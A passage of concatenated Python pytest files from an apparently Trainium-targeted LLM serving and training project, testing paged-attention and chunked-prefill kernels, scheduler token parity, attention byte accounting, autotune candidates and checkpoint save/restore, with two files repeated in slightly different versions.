    ck2 = jnp.asarray(np.where(mask[:, None, None, None], 1e4,
                               np.asarray(ck)), jnp.float32)
    cv2 = jnp.asarray(np.where(mask[:, None, None, None], -1e4,
                               np.asarray(cv)), jnp.float32)
    got, _, _ = paged_prefill_blockwise(
        q, knew, vnew, ck2, cv2, q_pos, kvh, valid, tables, wm,
        page_tile=2)
    np.testing.assert_array_equal(np.asarray(got), np.asarray(base))


# -------------------------------------- prefill resolution + geometry

def test_prefill_supported_geometry_envelope():
    assert prefill_supported_geometry(64, 8, 2, 64, 16)
    assert prefill_supported_geometry(512, 8, 2, 128, 128)
    assert not prefill_supported_geometry(0, 8, 2, 64, 16)    # no chunk
    assert not prefill_supported_geometry(640, 8, 2, 64, 16)  # > MAX_CHUNK
    assert not prefill_supported_geometry(64, 8, 2, 256, 16)  # hd > 128
    assert not prefill_supported_geometry(64, 8, 2, 64, 256)  # bs > 128
    assert not prefill_supported_geometry(64, 9, 2, 64, 16)   # not divisible


def test_serving_attn_geometry_per_class(monkeypatch):
    import dataclasses
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "bass")
    # decode fits but a wide chunk exceeds the decode envelope — the
    # prefill envelope must cover it independently (no blanket fallback)
    geom = engine.serving_attn_geometry(CFG, 8, prefill_chunk=256,
                                        spec_k=2)
    assert geom["decode"] and geom["verify"] and geom["prefill"]
    # hd > 128 kills every class
    wide = dataclasses.replace(CFG, dim=CFG.n_heads * 256)
    geom = engine.serving_attn_geometry(wide, 8, prefill_chunk=64)
    assert not any(geom.values())
    # chunk past MAX_CHUNK only drops the prefill class
    geom = engine.serving_attn_geometry(CFG, 8, prefill_chunk=4096)
    assert geom["decode"] and not geom["prefill"]
    monkeypatch.delenv("KO_PAGED_ATTN_IMPL", raising=False)


def test_serving_attn_impl_partial_fallback(monkeypatch, capsys):
    # satellite fix (ISSUE 18): the announcement reports each dispatch
    # class's verdict, not just decode's — an operator can see a
    # partial fallback (here: prefill chunk past the envelope) while
    # decode/verify keep the kernel
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "bass")
    engine._IMPL_ANNOUNCED.clear()
    impl = engine.serving_attn_impl(CFG, 8, prefill_chunk=4096, spec_k=0)
    assert impl == "bass"  # decode/verify still covered
    out = capsys.readouterr().out
    assert "decode=bass" in out and "verify=bass" in out
    assert "prefill=jax(geometry)" in out
    # announced once per distinct resolution: no re-print
    engine.serving_attn_impl(CFG, 8, prefill_chunk=4096, spec_k=0)
    assert capsys.readouterr().out == ""


def test_resolve_prefill_config_precedence(monkeypatch):
    for k in ("KO_PREFILL_ATTN_QT", "KO_PREFILL_ATTN_PT",
              "KO_PREFILL_ATTN_ACC"):
        monkeypatch.delenv(k, raising=False)
    monkeypatch.setenv("KO_AUTOTUNE", "0")
    assert resolve_prefill_config(64, 16, 8) == (64, 1, "pool")
    assert resolve_prefill_config(64, 16, 8, qt=32, pt=4, acc="f32") \
        == (32, 4, "f32")
    monkeypatch.setenv("KO_PREFILL_ATTN_QT", "32")
    monkeypatch.setenv("KO_PREFILL_ATTN_PT", "8")
    monkeypatch.setenv("KO_PREFILL_ATTN_ACC", "f32")
    assert resolve_prefill_config(64, 16, 8) == (32, 8, "f32")
    # qt clipped to the 128-partition ceiling and the chunk; pt to the
    # PSUM bank (pt*bs <= 512) and the table width
    monkeypatch.setenv("KO_PREFILL_ATTN_QT", "512")
    assert resolve_prefill_config(64, 16, 8)[0] == 64
    assert resolve_prefill_config(64, 128, 8)[1] == 4
    assert resolve_prefill_config(64, 16, 2)[1] == 2


# ------------------------------------------------ scheduler integration

def test_scheduler_parity_jax_vs_resolved(params, monkeypatch):
    rng = np.random.default_rng(0)
    prompts = [rng.integers(0, CFG.vocab_size, size=n).astype(np.int32)
               for n in (3, 9, 5, 12)]

    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    s_jax = make_sched(params)
    assert s_jax.attn_impl == "jax"
    h_jax = [s_jax.submit(p, max_new_tokens=6) for p in prompts]
    drain(s_jax)

    monkeypatch.delenv("KO_PAGED_ATTN_IMPL", raising=False)
    s_auto = make_sched(params)
    h_auto = [s_auto.submit(p, max_new_tokens=6) for p in prompts]
    drain(s_auto)

    assert ([h.result(timeout=0) for h in h_auto]
            == [h.result(timeout=0) for h in h_jax]), \
        "temp-0 tokens must not depend on the attention impl"
    assert s_auto.alloc.num_used == 0 and s_jax.alloc.num_used == 0


def test_scheduler_accounts_attn_bytes(params, monkeypatch):
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    s = make_sched(params)
    h = s.submit([1, 2, 3], max_new_tokens=4)
    drain(s)
    assert len(h.result(timeout=0)) == 7
    got = s.m["attn_bytes"].labels(impl="jax").value
    # 1 prefill chunk (start=0) emits token 1, then 3 decode
    # dispatches; each reads the full padded table under the jax impl
    per_step = step_attn_bytes(
        CFG.n_layers, [0], s.max_blocks_per_seq, s.sc.block_size,
        CFG.n_kv_heads, CFG.head_dim, s._pool_dtype_bytes, "jax")
    per_chunk = prefill_attn_bytes(
        CFG.n_layers, 0, s.sc.prefill_chunk, s.max_blocks_per_seq,
        s.sc.block_size, CFG.n_kv_heads, CFG.head_dim,
        s._pool_dtype_bytes, "jax")
    assert got == 3 * per_step + per_chunk


def test_attn_report_shape(params, monkeypatch):
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    s = make_sched(params)
    rep = s.attn_report()
    assert rep == {"impl": "jax",
                   "impl_by_class": {"decode": "jax", "verify": "jax",
                                     "prefill": "jax"},
                   "step_bytes": 0, "step_bytes_padded": 0,
                   "prefill_impl": "jax",
                   "prefill_step_bytes": 0,
                   "prefill_step_bytes_padded": 0}
    h = s.submit([1, 2, 3], max_new_tokens=8)
    while not (h.state == "decode" and len(h.tokens) >= 4):
        s.step()
    rep = s.attn_report()
    assert rep["impl"] == "jax"
    assert rep["step_bytes"] > 0
    assert rep["step_bytes"] <= rep["step_bytes_padded"]
    drain(s)


def test_attn_report_prefill_rows(params, monkeypatch):
    # while a long prompt is mid-prefill the report's prefill rows must
    # be live and the resolved-impl cost bounded by the padded cost
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    s = make_sched(params)
    prompt = np.arange(30, dtype=np.int32) % CFG.vocab_size
    h = s.submit(prompt, max_new_tokens=2)
    while not (h.state == "prefill" and h.pos > 0):
        s.step()
    rep = s.attn_report()
    assert rep["prefill_step_bytes"] > 0
    assert rep["prefill_step_bytes"] <= rep["prefill_step_bytes_padded"]
    drain(s)


def test_ttft_split_histograms(params, monkeypatch):
    # satellite (ISSUE 18): queue-wait + prefill-compute components are
    # observed exactly once per first token and bound the total
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    s = make_sched(params)
    hs = [s.submit([1, 2, 3, 4, 5], max_new_tokens=2) for _ in range(6)]
    drain(s)
    assert all(h.done for h in hs)
    assert s.m["ttft_queue"].count == 6
    assert s.m["ttft_prefill"].count == 6
    # components can never exceed the slowest total TTFT
    assert s.m["ttft_queue"].max <= s.m["ttft"].max
    assert s.m["ttft_prefill"].max <= s.m["ttft"].max


# ---------------------------------------------------- analytic bytes

def test_step_attn_bytes_model():
    # L=2, BS=8, MB=4, KV=2, hd=16, 2 bytes: line = 2*16*2 = 64
    line = 2 * 16 * 2
    # jax: every slot pays MB*BS tokens; empty slots too
    assert step_attn_bytes(2, [0, 1, 30], 4, 8, 2, 16, 2, "jax") \
        == 2 * 2 * (3 * 4 * 8) * line
    # bass: ceil(valid/BS) pages, empty slots free
    assert step_attn_bytes(2, [0, 1, 30], 4, 8, 2, 16, 2, "bass") \
        == 2 * 2 * ((1 + 4) * 8) * line
    assert step_attn_bytes(2, [], 4, 8, 2, 16, 2, "jax") == 0


def test_prefill_attn_bytes_model():
    # L=2, BS=8, MB=4, KV=2, hd=16, 2 bytes: line = 64
    line = 2 * 16 * 2
    # jax: the gathered copy always pays MB*BS tokens
    assert prefill_attn_bytes(2, 0, 16, 4, 8, 2, 16, 2, "jax") \
        == 2 * 2 * (4 * 8) * line
    assert prefill_attn_bytes(2, 30, 16, 4, 8, 2, 16, 2, "jax") \
        == 2 * 2 * (4 * 8) * line
    # bass: ceil(start/BS) history pages + the C fresh rows
    assert prefill_attn_bytes(2, 0, 16, 4, 8, 2, 16, 2, "bass") \
        == 2 * 2 * 16 * line
    assert prefill_attn_bytes(2, 9, 16, 4, 8, 2, 16, 2, "bass") \
        == 2 * 2 * (2 * 8 + 16) * line
    # history clipped to the table width
    assert prefill_attn_bytes(2, 99, 16, 4, 8, 2, 16, 2, "bass") \
        == 2 * 2 * (4 * 8 + 16) * line


# --------------------------------------------------------- autotune

def test_autotune_candidates_paged_attn():
    from kubeoperator_trn.kernels import autotune

    assert "paged_attn_bass" in autotune.KERNELS
    cands = autotune.generate_candidates("paged_attn_bass", (16, 8),
                                         "float32")
    assert all(c["pt"] * 16 <= 512 and c["pt"] <= 8 for c in cands)
    assert {c["acc"] for c in cands} == {"pool", "f32"}
    fast = autotune.generate_candidates("paged_attn_bass", (16, 8),
                                        "float32", fast=True)
    assert len(fast) == 2
    # PSUM-bank clip: bs=512 admits only pt=1
    wide = autotune.generate_candidates("paged_attn_bass", (512, 8),
                                        "float32", fast=True)
    assert all(c["pt"] == 1 for c in wide)


def test_autotune_candidate_callable_runs():
    import jax
    from kubeoperator_trn.kernels import autotune

    job = {"kernel": "paged_attn_bass", "shape": (4, 3),
           "dtype": "float32", "config": {"pt": 2, "acc": "pool"}}
    fn, args = autotune._candidate_callable(job)
    out = jax.jit(fn)(*args)
    assert out.shape == (4, 1, 4, 64)


def test_autotune_candidates_prefill_attn():
    from kubeoperator_trn.kernels import autotune

    assert "prefill_attn_bass" in autotune.KERNELS
    cands = autotune.generate_candidates("prefill_attn_bass",
                                         (64, 16, 8), "float32")
    assert cands and all(c["qt"] <= 128 and c["pt"] * 16 <= 512
                         and c["pt"] <= 8 for c in cands)
    assert {c["acc"] for c in cands} == {"pool", "f32"}
    fast = autotune.generate_candidates("prefill_attn_bass",
                                        (64, 16, 8), "float32", fast=True)
    assert len(fast) == 2
    # PSUM-bank clip: bs=512 admits only pt=1
    wide = autotune.generate_candidates("prefill_attn_bass",
                                        (64, 512, 8), "float32")
    assert all(c["pt"] == 1 for c in wide)


def test_autotune_candidate_callable_prefill_runs():
    import jax
    from kubeoperator_trn.kernels import autotune

    job = {"kernel": "prefill_attn_bass", "shape": (16, 8, 8),
           "dtype": "float32", "config": {"qt": 32, "pt": 2,
                                          "acc": "pool"}}
    fn, args = autotune._candidate_callable(job)
    attn, ck, cv = jax.jit(fn)(*args)
    assert attn.shape == (2, 16, 4, 64)
    assert ck.shape == cv.shape == (17, 8, 2, 64)


# ------------------------------------------------- bass path (gated)

@pytest.mark.skipif(not bass_available(), reason="concourse not present")
def test_scheduler_bass_matches_jax_tokens(params, monkeypatch):
    rng = np.random.default_rng(4)
    prompts = [rng.integers(0, CFG.vocab_size, size=n).astype(np.int32)
               for n in (3, 11, 6)]
    outs = {}
    for impl in ("jax", "bass"):
        monkeypatch.setenv("KO_PAGED_ATTN_IMPL", impl)
        s = make_sched(params)
        assert s.attn_impl == impl
        hs = [s.submit(p, max_new_tokens=8) for p in prompts]
        drain(s)
        outs[impl] = [h.result(timeout=0) for h in hs]
    assert outs["bass"] == outs["jax"], \
        "temp-0 bass tokens must match the gathered-copy einsum"


@pytest.mark.skipif(not bass_available(), reason="concourse not present")
def test_scheduler_bass_prefill_kernel_matches_jax(params, monkeypatch):
    # wide chunks (G*C > 128) route through the chunked-prefill kernel
    # (ISSUE 18) with its fused KV scatter; temp-0 tokens and the
    # zero-leak audit must hold against the pinned-jax scheduler
    rng = np.random.default_rng(5)
    prompts = [rng.integers(0, CFG.vocab_size, size=n).astype(np.int32)
               for n in (40, 97, 130)]
    outs = {}
    for impl in ("jax", "bass"):
        monkeypatch.setenv("KO_PAGED_ATTN_IMPL", impl)
        s = make_sched(params, prefill_chunk=128, max_seq=256)
        if impl == "bass":
            assert s.attn_impl_by_class.get("prefill") == "bass"
        hs = [s.submit(p, max_new_tokens=4) for p in prompts]
        drain(s)
        outs[impl] = [h.result(timeout=0) for h in hs]
        assert s.alloc.num_used == 0
    assert outs["bass"] == outs["jax"], \
        "temp-0 tokens must not depend on the prefill attention impl"
