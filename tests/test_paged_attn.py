"""Paged-attention kernel path (ISSUE 17): resolution, parity, bytes.

The serving planes get a second attention implementation — the
block-table-walking BASS kernel — next to `_attend_cached`'s
gathered-copy einsum.  These tests pin the pieces that run on CPU:

  - `resolve_paged_attn_impl` precedence (explicit > env > auto) and
    the engine-side geometry fallback in `serving_attn_impl`;
  - `paged_attend_blockwise` (the kernel's pure-jax structural twin:
    online softmax across page tiles, no gathered copy) against
    `_attend_cached` across dtypes, GQA ratios, ragged valid_len and
    non-dividing page tiles — including the recycled-block staleness
    regression (poisoned pages past valid_len must not leak in);
  - scheduler-level temp-0 token parity between an explicitly pinned
    "jax" scheduler and the auto-resolved one, plus the
    ko_work_infer_attn_bytes_total{impl} accounting and healthz
    `attn_report` fragment;
  - `step_attn_bytes` analytic model and the autotune candidate
    surface for the ``paged_attn_bass`` tag.

Bass-vs-jax numerics live in tests/test_kernels.py (concourse-gated);
the end-to-end bass parity test at the bottom self-skips off-neuron.
"""

import numpy as np
import pytest

import jax.numpy as jnp

from kubeoperator_trn.infer import engine
from kubeoperator_trn.infer.engine import _attend_cached
from kubeoperator_trn.infer.scheduler import (
    ContinuousBatchingScheduler, SchedulerConfig)
from kubeoperator_trn.kernels import bass_available
from kubeoperator_trn.kernels.paged_attn_bass import (
    resolve_paged_config, supported_geometry)
from kubeoperator_trn.models import llama
from kubeoperator_trn.ops.paged_attn import (
    paged_attend_blockwise, resolve_paged_attn_impl, step_attn_bytes)
from kubeoperator_trn.telemetry import MetricsRegistry

CFG = llama.PRESETS["llama3_tiny"]


@pytest.fixture(scope="module")
def params():
    return llama.init_params_numpy(CFG, 7)


def make_sched(params, **kw):
    kw.setdefault("slots", 4)
    kw.setdefault("block_size", 8)
    kw.setdefault("prefill_chunk", 8)
    sc = SchedulerConfig(**kw)
    return ContinuousBatchingScheduler(CFG, params, sc,
                                       registry=MetricsRegistry())


def drain(sched, max_steps=2000):
    steps = 0
    while sched.pending:
        sched.step()
        steps += 1
        assert steps < max_steps, "scheduler did not converge"
    return steps


# ------------------------------------------------------- resolution

def test_resolve_impl_precedence(monkeypatch):
    monkeypatch.delenv("KO_PAGED_ATTN_IMPL", raising=False)
    auto = resolve_paged_attn_impl()
    assert auto == ("bass" if bass_available() else "jax")
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    assert resolve_paged_attn_impl() == "jax"
    # explicit beats env
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "bass")
    assert resolve_paged_attn_impl("jax") == "jax"
    assert resolve_paged_attn_impl() == "bass"


def test_resolve_impl_rejects_unknown(monkeypatch):
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "gpu")
    with pytest.raises(ValueError):
        resolve_paged_attn_impl()
    with pytest.raises(ValueError):
        resolve_paged_attn_impl("nope")


def test_supported_geometry_envelope():
    assert supported_geometry(1, 8, 2, 64, 16)
    assert supported_geometry(4, 8, 2, 128, 128)      # g*sq = 16
    assert not supported_geometry(1, 8, 2, 256, 16)   # hd > 128
    assert not supported_geometry(1, 8, 2, 64, 256)   # bs > 128
    assert not supported_geometry(64, 8, 2, 64, 16)   # g*sq > 128
    assert not supported_geometry(1, 9, 2, 64, 16)    # heads not divisible


def test_serving_attn_impl_geometry_fallback(monkeypatch):
    # force bass, then hand the resolver a pool geometry the kernel
    # cannot tile: it must drop to jax, not crash at dispatch time
    import dataclasses
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "bass")
    wide = dataclasses.replace(CFG, dim=CFG.n_heads * 256)  # head_dim 256
    assert engine.serving_attn_impl(wide, 8) == "jax"
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    assert engine.serving_attn_impl(CFG, 8) == "jax"


def test_resolve_paged_config_precedence(monkeypatch):
    monkeypatch.delenv("KO_PAGED_ATTN_PT", raising=False)
    monkeypatch.delenv("KO_PAGED_ATTN_ACC", raising=False)
    monkeypatch.setenv("KO_AUTOTUNE", "0")
    assert resolve_paged_config(16, 8) == (1, "pool")
    assert resolve_paged_config(16, 8, pt=4, acc="f32") == (4, "f32")
    monkeypatch.setenv("KO_PAGED_ATTN_PT", "8")
    monkeypatch.setenv("KO_PAGED_ATTN_ACC", "f32")
    assert resolve_paged_config(16, 8) == (8, "f32")
    # clipped to the PSUM bank (pt*bs <= 512) and the table width
    assert resolve_paged_config(128, 8) == (4, "f32")
    assert resolve_paged_config(16, 2) == (2, "f32")


# ------------------------------------------- blockwise numerics (CPU)

def _pool_case(rng, b, sq, h, kvh, hd, bs, mb, dtype):
    nb = b * mb + 1
    q = jnp.asarray(rng.normal(size=(b, sq, h, hd)), dtype)
    ck = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), dtype)
    cv = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), dtype)
    tables = jnp.asarray(
        rng.permutation(nb - 1)[:b * mb].reshape(b, mb) + 1, jnp.int32)
    return q, ck, cv, tables


@pytest.mark.parametrize("dtype", [jnp.float32, jnp.bfloat16])
@pytest.mark.parametrize("h,kvh", [(4, 1), (4, 2), (4, 4)])
def test_blockwise_matches_attend_cached(dtype, h, kvh):
    rng = np.random.default_rng(0)
    b, hd, bs, mb = 3, 16, 4, 5
    q, ck, cv, tables = _pool_case(rng, b, 1, h, kvh, hd, bs, mb, dtype)
    valid = jnp.asarray([1, 7, 20], jnp.int32)      # ragged, incl. full
    qp = (valid - 1)[:, None]
    want = _attend_cached(q, ck, cv, qp, kvh, valid, tables)
    tol = 1e-5 if dtype == jnp.float32 else 2e-2
    for pt in (1, 2, 3, 5):                         # incl. non-dividing
        got = paged_attend_blockwise(q, ck, cv, qp, kvh, valid, tables,
                                     page_tile=pt)
        assert got.dtype == want.dtype
        np.testing.assert_allclose(
            np.asarray(got, np.float32), np.asarray(want, np.float32),
            rtol=tol, atol=tol)


def test_blockwise_verify_shape_matches_attend_cached():
    # the verify step feeds Sq = k+1 rows with per-row causal bounds
    rng = np.random.default_rng(1)
    b, sq, h, kvh, hd, bs, mb = 3, 4, 4, 2, 16, 4, 5
    q, ck, cv, tables = _pool_case(rng, b, sq, h, kvh, hd, bs, mb,
                                   jnp.float32)
    lens = jnp.asarray([0, 5, 13], jnp.int32)
    qp = lens[:, None] + jnp.arange(sq)[None, :]
    valid = lens + sq
    want = _attend_cached(q, ck, cv, qp, kvh, valid, tables)
    got = paged_attend_blockwise(q, ck, cv, qp, kvh, valid, tables,
                                 page_tile=2)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=1e-5, atol=1e-5)


def test_blockwise_ignores_stale_recycled_blocks():
    # regression: a freed block re-enters another slot's table while the
    # old table row still points at it.  Everything past valid_len —
    # including whole poisoned pages — must not move the output.
    rng = np.random.default_rng(2)
    b, h, kvh, hd, bs, mb = 2, 4, 2, 16, 4, 6
    q, ck, cv, tables = _pool_case(rng, b, 1, h, kvh, hd, bs, mb,
                                   jnp.float32)
    valid = jnp.asarray([5, 9], jnp.int32)
    qp = (valid - 1)[:, None]
    base = paged_attend_blockwise(q, ck, cv, qp, kvh, valid, tables,
                                  page_tile=2)
    # poison every pool block not covered by a valid page
    keep = set()
    tb = np.asarray(tables)
    for i, vl in enumerate(np.asarray(valid)):
        for j in range(-(-int(vl) // bs)):
            keep.add(int(tb[i, j]))
    mask = np.ones(ck.shape[0], bool)
    mask[sorted(keep)] = False
    ck2 = jnp.asarray(np.where(mask[:, None, None, None], 1e4,
                               np.asarray(ck)), jnp.float32)
    cv2 = jnp.asarray(np.where(mask[:, None, None, None], -1e4,
                               np.asarray(cv)), jnp.float32)
    got = paged_attend_blockwise(q, ck2, cv2, qp, kvh, valid, tables,
                                 page_tile=2)
    np.testing.assert_array_equal(np.asarray(got), np.asarray(base))


def test_verify_k0_column_matches_decode():
    # a verify dispatch with one fed token per slot is exactly a decode
    # step: row 0 of the Sq=1 verify equals the decode output
    rng = np.random.default_rng(3)
    b, h, kvh, hd, bs, mb = 3, 4, 2, 16, 4, 5
    q, ck, cv, tables = _pool_case(rng, b, 1, h, kvh, hd, bs, mb,
                                   jnp.float32)
    valid = jnp.asarray([2, 8, 17], jnp.int32)
    qp = (valid - 1)[:, None]
    dec = paged_attend_blockwise(q, ck, cv, qp, kvh, valid, tables)
    ver = paged_attend_blockwise(q, ck, cv, qp, kvh, valid, tables,
                                 page_tile=3)
    np.testing.assert_allclose(np.asarray(ver), np.asarray(dec),
                               rtol=1e-6, atol=1e-6)


# ------------------------------------------------ scheduler integration

def test_scheduler_parity_jax_vs_resolved(params, monkeypatch):
    rng = np.random.default_rng(0)
    prompts = [rng.integers(0, CFG.vocab_size, size=n).astype(np.int32)
               for n in (3, 9, 5, 12)]

    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    s_jax = make_sched(params)
    assert s_jax.attn_impl == "jax"
    h_jax = [s_jax.submit(p, max_new_tokens=6) for p in prompts]
    drain(s_jax)

    monkeypatch.delenv("KO_PAGED_ATTN_IMPL", raising=False)
    s_auto = make_sched(params)
    h_auto = [s_auto.submit(p, max_new_tokens=6) for p in prompts]
    drain(s_auto)

    assert ([h.result(timeout=0) for h in h_auto]
            == [h.result(timeout=0) for h in h_jax]), \
        "temp-0 tokens must not depend on the attention impl"
    assert s_auto.alloc.num_used == 0 and s_jax.alloc.num_used == 0


def test_scheduler_accounts_attn_bytes(params, monkeypatch):
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    s = make_sched(params)
    h = s.submit([1, 2, 3], max_new_tokens=4)
    drain(s)
    assert len(h.result(timeout=0)) == 7
    got = s.m["attn_bytes"].labels(impl="jax").value
    # 3 decode dispatches follow the prefill (prefill emits token 1);
    # each reads the full padded table under the jax impl
    per_step = step_attn_bytes(
        CFG.n_layers, [0], s.max_blocks_per_seq, s.sc.block_size,
        CFG.n_kv_heads, CFG.head_dim, s._pool_dtype_bytes, "jax")
    assert got == 3 * per_step


def test_attn_report_shape(params, monkeypatch):
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    s = make_sched(params)
    rep = s.attn_report()
    assert rep == {"impl": "jax", "step_bytes": 0, "step_bytes_padded": 0}
    h = s.submit([1, 2, 3], max_new_tokens=8)
    while not (h.state == "decode" and len(h.tokens) >= 4):
        s.step()
    rep = s.attn_report()
    assert rep["impl"] == "jax"
    assert rep["step_bytes"] > 0
    assert rep["step_bytes"] <= rep["step_bytes_padded"]
    drain(s)


# ---------------------------------------------------- analytic bytes

def test_step_attn_bytes_model():
    # L=2, BS=8, MB=4, KV=2, hd=16, 2 bytes: line = 2*16*2 = 64
    line = 2 * 16 * 2
    # jax: every slot pays MB*BS tokens; empty slots too
    assert step_attn_bytes(2, [0, 1, 30], 4, 8, 2, 16, 2, "jax") \
        == 2 * 2 * (3 * 4 * 8) * line
    # bass: ceil(valid/BS) pages, empty slots free
    assert step_attn_bytes(2, [0, 1, 30], 4, 8, 2, 16, 2, "bass") \
        == 2 * 2 * ((1 + 4) * 8) * line
    assert step_attn_bytes(2, [], 4, 8, 2, 16, 2, "jax") == 0


# --------------------------------------------------------- autotune

def test_autotune_candidates_paged_attn():
    from kubeoperator_trn.kernels import autotune

    assert "paged_attn_bass" in autotune.KERNELS
    cands = autotune.generate_candidates("paged_attn_bass", (16, 8),
                                         "float32")
    assert all(c["pt"] * 16 <= 512 and c["pt"] <= 8 for c in cands)
    assert {c["acc"] for c in cands} == {"pool", "f32"}
    fast = autotune.generate_candidates("paged_attn_bass", (16, 8),
                                        "float32", fast=True)
    assert len(fast) == 2
    # PSUM-bank clip: bs=512 admits only pt=1
    wide = autotune.generate_candidates("paged_attn_bass", (512, 8),
                                        "float32", fast=True)
    assert all(c["pt"] == 1 for c in wide)


def test_autotune_candidate_callable_runs():
    import jax
    from kubeoperator_trn.kernels import autotune

    job = {"kernel": "paged_attn_bass", "shape": (4, 3),
           "dtype": "float32", "config": {"pt": 2, "acc": "pool"}}
    fn, args = autotune._candidate_callable(job)
    out = jax.jit(fn)(*args)
    assert out.shape == (4, 1, 4, 64)


# ------------------------------------------------- bass path (gated)

@pytest.mark.skipif(not bass_available(), reason="concourse not present")
def test_scheduler_bass_matches_jax_tokens(params, monkeypatch):
    rng = np.random.default_rng(4)
    prompts = [rng.integers(0, CFG.vocab_size, size=n).astype(np.int32)
               for n in (3, 11, 6)]
    outs = {}
    for impl in ("jax", "bass"):
        monkeypatch.setenv("KO_PAGED_ATTN_IMPL", impl)
        s = make_sched(params)
        assert s.attn_impl == impl
        hs = [s.submit(p, max_new_tokens=8) for p in prompts]
        drain(s)
        outs[impl] = [h.result(timeout=0) for h in hs]
    assert outs["bass"] == outs["jax"], \
        "temp-0 bass tokens must match the gathered-copy einsum"
