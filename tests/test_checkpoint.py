import jax
import jax.numpy as jnp
import numpy as np

from kubeoperator_trn.models import llama
from kubeoperator_trn.train.checkpoint import (
    save_checkpoint,
    restore_checkpoint,
    latest_step,
)
from kubeoperator_trn.train.optim import adamw_init


def test_roundtrip(tmp_path):
    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    state = {"params": params, "opt": adamw_init(params)}
    save_checkpoint(str(tmp_path), 7, state, meta={"model": "llama3_tiny"})
    assert latest_step(str(tmp_path)) == 7
    restored, manifest = restore_checkpoint(str(tmp_path))
    assert manifest["step"] == 7
    flat_a = jax.tree_util.tree_leaves(state)
    flat_b = jax.tree_util.tree_leaves(restored)
    assert len(flat_a) == len(flat_b)
    for a, b in zip(flat_a, flat_b):
        np.testing.assert_array_equal(np.asarray(a), np.asarray(b))


def test_latest_overwrites(tmp_path):
    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    save_checkpoint(str(tmp_path), 1, {"params": params})
    save_checkpoint(str(tmp_path), 2, {"params": params})
    assert latest_step(str(tmp_path)) == 2
    _, manifest = restore_checkpoint(str(tmp_path))
    assert manifest["step"] == 2


def test_data_stream_resume_exact(tmp_path):
    """Batches are a pure function of (seed, step): a stream started at
    start_step=N produces exactly the batches the original stream
    yields from its Nth element (SURVEY §5.4 resume)."""
    import numpy as np

    from kubeoperator_trn.train.data import synthetic_stream, token_file_stream

    s0 = synthetic_stream(128, 4, 16, seed=7)
    batches = [next(s0) for _ in range(5)]
    s3 = synthetic_stream(128, 4, 16, seed=7, start_step=3)
    for want in batches[3:]:
        got = next(s3)
        np.testing.assert_array_equal(want["inputs"], got["inputs"])
        np.testing.assert_array_equal(want["targets"], got["targets"])

    toks = np.arange(5000, dtype=np.uint16) % 333
    p = tmp_path / "toks.bin"
    toks.tofile(p)
    t0 = token_file_stream(str(p), 4, 16, seed=5)
    tb = [next(t0) for _ in range(4)]
    t2 = token_file_stream(str(p), 4, 16, seed=5, start_step=2)
    np.testing.assert_array_equal(tb[2]["inputs"], next(t2)["inputs"])
    np.testing.assert_array_equal(tb[3]["inputs"], next(t2)["inputs"])
