import jax
import jax.numpy as jnp
import numpy as np

from kubeoperator_trn.models import llama
from kubeoperator_trn.train.checkpoint import (
    save_checkpoint,
    restore_checkpoint,
    latest_step,
)
from kubeoperator_trn.train.optim import adamw_init


def test_roundtrip(tmp_path):
    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    state = {"params": params, "opt": adamw_init(params)}
    save_checkpoint(str(tmp_path), 7, state, meta={"model": "llama3_tiny"})
    assert latest_step(str(tmp_path)) == 7
    restored, manifest = restore_checkpoint(str(tmp_path))
    assert manifest["step"] == 7
    flat_a = jax.tree_util.tree_leaves(state)
    flat_b = jax.tree_util.tree_leaves(restored)
    assert len(flat_a) == len(flat_b)
    for a, b in zip(flat_a, flat_b):
        np.testing.assert_array_equal(np.asarray(a), np.asarray(b))


def test_latest_overwrites(tmp_path):
    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    save_checkpoint(str(tmp_path), 1, {"params": params})
    save_checkpoint(str(tmp_path), 2, {"params": params})
    assert latest_step(str(tmp_path)) == 2
    _, manifest = restore_checkpoint(str(tmp_path))
    assert manifest["step"] == 2


def test_data_stream_resume_exact(tmp_path):
    """Batches are a pure function of (seed, step): a stream started at
    start_step=N produces exactly the batches the original stream
    yields from its Nth element (SURVEY §5.4 resume)."""
    import numpy as np

    from kubeoperator_trn.train.data import synthetic_stream, token_file_stream

    s0 = synthetic_stream(128, 4, 16, seed=7)
    batches = [next(s0) for _ in range(5)]
    s3 = synthetic_stream(128, 4, 16, seed=7, start_step=3)
    for want in batches[3:]:
        got = next(s3)
        np.testing.assert_array_equal(want["inputs"], got["inputs"])
        np.testing.assert_array_equal(want["targets"], got["targets"])

    toks = np.arange(5000, dtype=np.uint16) % 333
    p = tmp_path / "toks.bin"
    toks.tofile(p)
    t0 = token_file_stream(str(p), 4, 16, seed=5)
    tb = [next(t0) for _ in range(4)]
    t2 = token_file_stream(str(p), 4, 16, seed=5, start_step=2)
    np.testing.assert_array_equal(tb[2]["inputs"], next(t2)["inputs"])
    np.testing.assert_array_equal(tb[3]["inputs"], next(t2)["inputs"])


def test_native_batcher_matches_numpy(tmp_path):
    """C++ gather_crops == the numpy crop loop (and builds on demand);
    skipped cleanly where no toolchain exists."""
    import numpy as np
    import pytest

    from kubeoperator_trn.native import load_batcher

    gather = load_batcher()
    if gather is None:
        pytest.skip("no C++ toolchain in this environment")
    for dtype in (np.uint16, np.uint32):
